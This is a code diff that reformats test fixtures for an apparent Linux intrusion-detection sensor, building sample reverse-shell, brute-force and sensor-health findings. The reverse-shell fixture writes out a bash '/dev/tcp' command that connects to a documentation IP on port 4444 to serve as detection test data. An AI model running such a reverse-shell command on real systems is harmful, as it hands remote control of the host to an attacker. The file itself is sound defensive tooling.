@@ -35,11 +35,29 @@ LOCAL_IP = "198.51.100.7"
 def ancestors() -> tuple[ProcessRef, ...]:
     """Nearest first, as on the wire."""
     return (
-        ProcessRef(pid=4100, start_ns=90, ppid=871, exe="/usr/bin/bash", argv=("-bash",), uid=1000, user="ana",
-                   login_uid=1000, cwd="/home/ana"),
-        ProcessRef(pid=871, start_ns=50, ppid=1, exe="/usr/sbin/sshd", argv=("sshd: ana [priv]",), uid=0, user="root"),
-        ProcessRef(pid=1, start_ns=1, exe="/usr/lib/systemd/systemd", argv=("/sbin/init", "splash"), uid=0, user="root"),
-    )  # fmt: skip
+        ProcessRef(
+            pid=4100,
+            start_ns=90,
+            ppid=871,
+            exe="/usr/bin/bash",
+            argv=("-bash",),
+            uid=1000,
+            user="ana",
+            login_uid=1000,
+            cwd="/home/ana",
+        ),
+        ProcessRef(
+            pid=871, start_ns=50, ppid=1, exe="/usr/sbin/sshd", argv=("sshd: ana [priv]",), uid=0, user="root"
+        ),
+        ProcessRef(
+            pid=1,
+            start_ns=1,
+            exe="/usr/lib/systemd/systemd",
+            argv=("/sbin/init", "splash"),
+            uid=0,
+            user="root",
+        ),
+    )
 
 
 def reverse_shell(ts_ns: int | None = None, number: int = 0) -> Finding:
@@ -47,10 +65,18 @@ def reverse_shell(ts_ns: int | None = None, number: int = 0) -> Finding:
     ts_ns = realtime_ns() if ts_ns is None else ts_ns
     ts = rfc3339(ts_ns)
     process = Process(
-        pid=4242 + number, start_ns=100, ppid=4100, exe="/usr/bin/bash", comm="bash",
-        argv=("bash", "-c", f"exec 5<>/dev/tcp/{LOCAL_IP}/4444; {SCRIPT}", HIDDEN), uid=1000, user="ana",
-        login_uid=1000, cwd="/tmp/<b>work", ancestors=ancestors(),
-    )  # fmt: skip
+        pid=4242 + number,
+        start_ns=100,
+        ppid=4100,
+        exe="/usr/bin/bash",
+        comm="bash",
+        argv=("bash", "-c", f"exec 5<>/dev/tcp/{LOCAL_IP}/4444; {SCRIPT}", HIDDEN),
+        uid=1000,
+        user="ana",
+        login_uid=1000,
+        cwd="/tmp/<b>work",
+        ancestors=ancestors(),
+    )
     return Finding(
         ts=ts,
         detector="reverse_shell",
@@ -61,12 +87,23 @@ def reverse_shell(ts_ns: int | None = None, number: int = 0) -> Finding:
             title="Shell wired to a network socket",
             summary=f"bash (pid {process.pid}) reads its commands from {LOCAL_IP}:4444 {SCRIPT}",
             evidence=(
-                Evidence(kind="network.connect", text=f"bash connected to {LOCAL_IP} port 4444",
-                         ts=rfc3339(ts_ns - NS), details={"dst_ip": LOCAL_IP, "dst_port": 4444, "src_ip": None}),
-                Evidence(kind="process.exec", text=f"bash started {SCRIPT}", ts=ts,
-                         details={"argv": SCRIPT, "exe_path": "/usr/bin/bash"}),
+                Evidence(
+                    kind="network.connect",
+                    text=f"bash connected to {LOCAL_IP} port 4444",
+                    ts=rfc3339(ts_ns - NS),
+                    details={"dst_ip": LOCAL_IP, "dst_port": 4444, "src_ip": None},
+                ),
+                Evidence(
+                    kind="process.exec",
+                    text=f"bash started {SCRIPT}",
+                    ts=ts,
+                    details={"argv": SCRIPT, "exe_path": "/usr/bin/bash"},
+                ),
             ),
-            recommended_checks=("Look at the connection: `ss -tnp`", "Ask ana whether this session is theirs"),
+            recommended_checks=(
+                "Look at the connection: `ss -tnp`",
+                "Ask ana whether this session is theirs",
+            ),
             tags=("shell", SCRIPT),
             entities=(EntityRef.ip(LOCAL_IP), EntityRef.user("ana"), EntityRef(EntityType.PATH, HIDDEN)),
             attack=("T1059.004", "T1071"),
@@ -74,7 +111,7 @@ def reverse_shell(ts_ns: int | None = None, number: int = 0) -> Finding:
             blind=("12 file.open records were lost in the minute before",),
             suppressed_count=3,
         ),
-    )  # fmt: skip
+    )
 
 
 def brute_force(ts_ns: int | None = None, number: int = 0) -> Finding:
@@ -115,11 +152,23 @@ def health(ts_ns: int | None = None) -> SensorHealth:
         pid=4711,
         version="0.1.0",
         hooks=(
-            HookHealth(name="iw_sched_process_exec", kind="process.exec", state="attached", fires=123456,
-                       canary="working", canary_ts=ts),
+            HookHealth(
+                name="iw_sched_process_exec",
+                kind="process.exec",
+                state="attached",
+                fires=123456,
+                canary="working",
+                canary_ts=ts,
+            ),
             HookHealth(name="iw_inet_sock_set_state", kind="network.connect", state="attached", fires=42),
-            HookHealth(name="iw_bpf", kind="kernel.bpf", state="absent", canary="absent",
-                       reason="kernel has no such tracepoint", lost_techniques=("T1014", "T1562.001")),
+            HookHealth(
+                name="iw_bpf",
+                kind="kernel.bpf",
+                state="absent",
+                canary="absent",
+                reason="kernel has no such tracepoint",
+                lost_techniques=("T1014", "T1562.001"),
+            ),
         ),
         rates={"process.exec": 12.5, "file.open": 830.0},
         totals={"process.exec": 123456, "file.open": 9876543, "kernel.bpf": 3},
@@ -129,10 +178,12 @@ def health(ts_ns: int | None = None) -> SensorHealth:
             CollectorHealth(id="auth_log", state="working", lines=120, matched=80, malformed=1),
             CollectorHealth(id="journald", state="absent", reason="journalctl is not installed"),
         ),
-        detectors=DetectorsHealth(loaded=19, disabled=(DisabledDetector(id="odd_one", reason="raised 5 times"),)),
+        detectors=DetectorsHealth(
+            loaded=19, disabled=(DisabledDetector(id="odd_one", reason="raised 5 times"),)
+        ),
         process_table=ProcessTableHealth(entries=214, evicted=7),
         rss_bytes=28 << 20,
-    )  # fmt: skip
+    )
 
 
 def line(finding: Finding | Telemetry) -> bytes:
